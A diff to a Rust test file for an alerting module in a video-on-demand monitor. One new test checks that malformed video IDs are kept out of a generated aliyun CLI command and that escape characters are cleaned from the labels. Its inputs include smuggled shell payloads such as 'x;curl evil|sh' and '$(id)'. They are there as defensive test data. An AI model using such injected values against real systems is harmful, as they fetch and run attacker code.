@@ -4,6 +4,7 @@ use proptest::prelude::*;
 
 use super::*;
 use crate::ledger::snapshot::{Mode, Role};
+use crate::vod::fault::{ErrorCode, Fault};
 
 const NOW: UnixMillis = UnixMillis::from_secs(1_000_000);
 
@@ -74,6 +75,52 @@ fn labels_tell_what_the_alert_is_and_nothing_that_changes() {
         .map(|alert| alert.starts_at.0)
         .collect();
     assert_eq!(starts, [800_000, 900_000]);
+}
+
+#[test]
+fn an_id_that_is_none_gets_into_no_command_and_moves_no_cursor() {
+    let about = |id: &str| {
+        let trouble = Trouble {
+            media: MediaKey::of(id),
+            ..stalled(1, 800)
+        };
+        Alert::about(&identity("q"), &trouble)
+    };
+    let usual = "0123456789abcdef0123456789abcdef";
+    let command = format!("aliyun vod GetTranscodeSummary --VideoIds {usual} --region cn-shanghai");
+    assert_eq!(about(usual).annotations["ask_vod"], command);
+    assert!(about("video_A-1").annotations.contains_key("ask_vod"));
+    let long = "x".repeat(65);
+    for id in [
+        "x;curl evil|sh",
+        "$(id)",
+        "a b",
+        "a\nb",
+        "-h",
+        "\u{e9}",
+        &long,
+    ] {
+        let alert = about(id);
+        assert!(!alert.annotations.contains_key("ask_vod"), "{id:?}");
+    }
+    let alert = about("a\n\u{1b}[2J\u{202e}b");
+    assert_eq!(alert.labels["video_id"], "a  [2J b");
+    let shown = &alert.annotations["description"];
+    assert!(shown.starts_with("Video a  [2J b of queue q"), "{shown:?}");
+}
+
+#[test]
+fn a_failure_tells_whose_fault_it_is_beside_the_labels() {
+    let failed = Trouble {
+        failure: Some((Fault::Config, ErrorCode::InternalError)),
+        ..trouble(1, 900, Ailment::Failed)
+    };
+    let annotations = Alert::about(&identity("q"), &failed).annotations;
+    assert_eq!(annotations["fault"], "config");
+    assert_eq!(annotations["error_code"], ErrorCode::InternalError.as_str());
+    assert_eq!(annotations["last_sign"], failed.last_sign.to_string());
+    let stalled = Alert::about(&identity("q"), &stalled(1, 900)).annotations;
+    assert!(!stalled.contains_key("fault"), "{stalled:?}");
 }
 
 #[test]
